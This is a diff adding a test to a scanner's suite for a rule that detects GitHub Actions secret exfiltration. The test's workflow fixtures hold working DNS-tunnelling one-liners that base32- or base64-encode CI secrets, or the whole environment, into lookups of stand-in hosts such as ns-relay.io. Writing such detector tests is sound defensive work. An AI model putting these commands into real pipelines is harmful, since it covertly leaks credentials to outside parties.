@@ -430,6 +430,36 @@ describe('gha-secrets-exfiltration', () => {
     expect(dropOwnHostSends(findings, 'acme', 'tint').map((f) => f.line)).toEqual([6, 9]);
   });
 
+  it('reports a secret or the environment written into the name of a DNS lookup, critical; ordinary lookups are not', () => {
+    const sent = `on: push\n${job(`      - run: nslookup "$(echo \${{ secrets.NPM_TOKEN }} | base32 | tr -d = | head -c 60).cache-check.dev"
+      - run: for c in $(env | base64 -w0 | fold -w 60); do dig +short "$c.d.telemetry-ns.net"; done
+      - run: |
+          T=$(echo "$PYPI" | base32 -w0)
+          host "$T.p.ns-relay.io" || true
+        env:
+          PYPI: \${{ secrets.PYPI_API_TOKEN }}
+      - run: dig +short "$K.k.ns-relay.io"
+        env:
+          K: \${{ secrets.DEPLOY_KEY }}
+`)}`;
+    expect(only(sent, 'gha-secrets-exfiltration')).toEqual([
+      ['gha-secrets-exfiltration', 'critical', 6],
+      ['gha-secrets-exfiltration', 'critical', 7],
+      ['gha-secrets-exfiltration', 'critical', 10],
+      ['gha-secrets-exfiltration', 'critical', 13],
+    ]);
+    const normal = `on: push\n${job(`      - run: dig +short "\${{ matrix.service }}.svc.cluster.local"
+      - run: host "$(git rev-parse --short HEAD).preview.acme.dev"
+      - run: nslookup "$NODE.internal.acme.io"
+        env:
+          NODE: \${{ vars.NODE }}
+      - run: dig +short TXT "_acme-challenge.$DOMAIN" @1.1.1.1
+        env:
+          DOMAIN: \${{ secrets.DOMAIN }}
+`)}`;
+    expect(only(normal, 'gha-secrets-exfiltration')).toEqual([]);
+  });
+
   it('is quiet on a product-named secret sent to a host with the product in its name, one whose name is in the secret\'s, or a name whose words are a use or an abbreviation', () => {
     const normal = `on: push\n${job(`      - run: curl -s -X POST https://api.jelly-cloud.com/1.0/exec -d "token=\${{ secrets.JELLYCLOUD_TOKEN }}" -d "cmd=redeploy"
       - run: curl -s -F "file=@app.apk" -F "token=\${{ secrets.APKDROP_TOKEN }}" https://upload.apkdrop.io/
